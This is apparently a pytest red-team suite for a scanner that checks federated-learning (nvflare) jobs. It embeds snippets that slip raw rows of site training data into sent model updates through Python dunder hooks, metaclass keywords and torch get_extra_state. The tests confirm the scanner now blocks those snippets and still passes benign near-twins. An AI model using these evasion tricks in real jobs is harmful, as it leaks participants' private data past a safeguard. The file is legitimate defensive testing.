"""Red team 35b: site data handed to the job's own code by the interpreter or by torch rather than by a call the
job writes: a class statement's keywords (__init_subclass__, a metaclass), an operation's operand (`k in o`,
`o[k]`, `C[k]`, `o + v`, `o.a = v`, `del o[k]`, `getattr(o, k)`, `isinstance(v, C)`, `f"{o:{k}}"`) and a module's get_extra_state() in its
state_dict(). Each attack here was accepted
before its fix; the legitimate form nearest to each stays accepted. Samples: corpus/*/rt35b_*, near_rt35b_*."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.commands.cli import EXIT
from analyzer.model import Decision
from conftest import run_cli

ACCEPTED_BEFORE = [
    "malicious/rt35b_module_extra_state.py", "malicious/rt35b_init_subclass_keyword.py",
    "malicious/rt35b_class_getitem_keeps_key.py",
    "malicious/rt35b_contains_keeps_operand.py", "malicious/rt35b_dataset_getitem_keeps_key.py",
    "malicious/rt35b_nb_class_getitem_layout.ipynb", "jobs/rt35b_job_init_subclass_registry",
    "malicious/rt35b_setattr_keeps_value.py", "malicious/rt35b_getattr_name_is_row.py",
    "malicious/rt35b_format_spec_is_cell.py", "malicious/rt35b_delitem_keeps_key.py",
    "malicious/rt35b_instancecheck_keeps_row.py",
]
TWINS = [
    "benign/near_rt35b_extra_state_version.py", "benign/near_rt35b_init_subclass_literal.py",
    "benign/near_rt35b_class_getitem_columns.py",
    "benign/near_rt35b_contains_lookup.py", "benign/near_rt35b_setattr_checked.py",
]


@pytest.mark.parametrize("sample", ACCEPTED_BEFORE)
def test_attack_is_no_longer_accepted(sample: str) -> None:
    kit.assert_held(kit.scan_sample(sample), "update-channel-leak.")


@pytest.mark.parametrize("sample", TWINS)
def test_near_twin_stays_accepted(sample: str) -> None:
    kit.assert_accepted(kit.scan_sample(sample))


# The interpreter itself moves the row: each snippet run under a stub of nvflare.client delivers the row it was
# never called with, and the gate reads the same code as leaking it.
HEAD = kit.ROWS_CLIENT
SNIPPETS = {
    "init_subclass": '''
class Base:
    def __init_subclass__(cls, note=None):
        cls.note = note

class Report(Base, note=rows[0]):
    pass

flare.send(flare.FLModel(params=model.params, meta={"n": Report.note}))
''',
    "metaclass": '''
class Meta(type):
    def __new__(mcls, name, bases, ns, note=None):
        return super().__new__(mcls, name, bases, ns)

    def __init__(cls, name, bases, ns, note=None):
        super().__init__(name, bases, ns)
        cls.note = note

class Report(metaclass=Meta, note=rows[0]):
    pass

flare.send(flare.FLModel(params=model.params, meta={"n": Report.note}))
''',
    "class_getitem": '''
class Spec:
    def __class_getitem__(cls, item):
        cls.item = item
        return cls

Spec[tuple(rows[0])]
flare.send(flare.FLModel(params=model.params, meta={"n": Spec.item}))
''',
    "contains": '''
class Guard:
    seen = []
    def __contains__(self, k):
        Guard.seen.append(k)
        return False

tuple(rows[0]) in Guard()
flare.send(flare.FLModel(params=model.params, meta={"n": Guard.seen}))
''',
    "setattr": '''
class Settings:
    kept = []
    def __setattr__(self, k, v):
        Settings.kept.append(v)

s = Settings()
s.first = rows[0]
flare.send(flare.FLModel(params=model.params, meta={"n": Settings.kept}))
''',
    "format_spec": '''
class Fmt:
    specs = []
    def __format__(self, spec):
        Fmt.specs.append(spec)
        return ""

label = f"{Fmt():{rows[0][0]}}"
flare.send(flare.FLModel(params=model.params, meta={"n": Fmt.specs}))
''',
    "delitem": '''
class Cache:
    evicted = []
    def __delitem__(self, k):
        Cache.evicted.append(k)

del Cache()[tuple(rows[0])]
flare.send(flare.FLModel(params=model.params, meta={"n": Cache.evicted}))
''',
    "instancecheck": '''
class Checks(type):
    seen = []
    def __instancecheck__(cls, obj):
        Checks.seen.append(obj)
        return False

class Record(metaclass=Checks):
    pass

isinstance(rows[0], Record)
flare.send(flare.FLModel(params=model.params, meta={"n": Checks.seen}))
''',
    # session 36 (roads36): a tuple of classes asks each one's metaclass
    "instancecheck_tuple": '''
class Checks(type):
    seen = []
    def __instancecheck__(cls, obj):
        Checks.seen.append(obj)
        return False

class Record(metaclass=Checks):
    pass

isinstance(rows[0], (int, Record))
flare.send(flare.FLModel(params=model.params, meta={"n": Checks.seen}))
''',
    "radd": '''
class Total:
    kept = []
    def __radd__(self, other):
        Total.kept.append(other)
        return self

rows[0] + Total()
flare.send(flare.FLModel(params=model.params, meta={"n": Total.kept}))
''',
}


@pytest.mark.parametrize("name", sorted(SNIPPETS))
def test_interpreter_hands_the_row_and_the_gate_sees_it(tmp_path: Path, name: str) -> None:
    source = HEAD + textwrap.dedent(SNIPPETS[name])
    out = kit.run_with_stub(tmp_path, source + "\nimport json\nprint(json.dumps([m.meta for m in flare.SENT]))\n",
                            "1042,63,1\n7,40,0\n", check=True)
    assert "1042" in json.dumps(json.loads(out.stdout)), out.stdout  # the row reached the send
    report = kit.scan_source(tmp_path, source)
    assert report.decision is not Decision.ACCEPT, name


def test_literal_operands_and_keywords_stay_accepted(tmp_path: Path) -> None:
    source = HEAD.replace("rows = list(csv.reader(open(\"/data/site/train.csv\")))\n", "") + textwrap.dedent('''
class Base:
    def __init_subclass__(cls, note=None):
        cls.note = note

class Report(Base, note="v2"):
    pass

class Guard:
    seen = []
    def __contains__(self, k):
        Guard.seen.append(k)
        return False

"lr" in Guard()
flare.send(flare.FLModel(params=model.params, meta={"n": Report.note, "g": Guard.seen}))
''')
    kit.assert_accepted(kit.scan_source(tmp_path, source))


def test_extra_state_of_a_base_class_travels_in_state_dict(tmp_path: Path) -> None:
    # torch.nn.Module.state_dict() calls get_extra_state wherever the class hierarchy defines it
    report = kit.scan_source(tmp_path, textwrap.dedent('''
        import nvflare.client as flare
        import pandas as pd
        import torch

        class WithExtra(torch.nn.Module):
            def get_extra_state(self):
                return self.ref

        class Net(WithExtra):
            def __init__(self):
                super().__init__()
                self.fc = torch.nn.Linear(3, 1)
                self.ref = None

        x = torch.tensor(pd.read_csv("/data/site/train.csv").to_numpy())
        net = Net()
        flare.init()
        model = flare.receive()
        net.ref = x[:4]
        flare.send(flare.FLModel(params=net.state_dict()))
    '''))
    assert report.decision is not Decision.ACCEPT


def test_cli_rejects_the_notebook() -> None:
    out = run_cli("scan", str(kit.CORPUS / "malicious/rt35b_nb_class_getitem_layout.ipynb"))
    verdicts = [line.split()[0] for line in out.stdout.splitlines() if line.strip().startswith(("ACCEPT", "ESCALATE",
                                                                                                "REJECT"))]
    assert out.returncode == EXIT[Decision.REJECT] and verdicts == ["REJECT"], out.stdout[-500:]
    assert "update-channel-leak.raw-data-in-update" in out.stdout
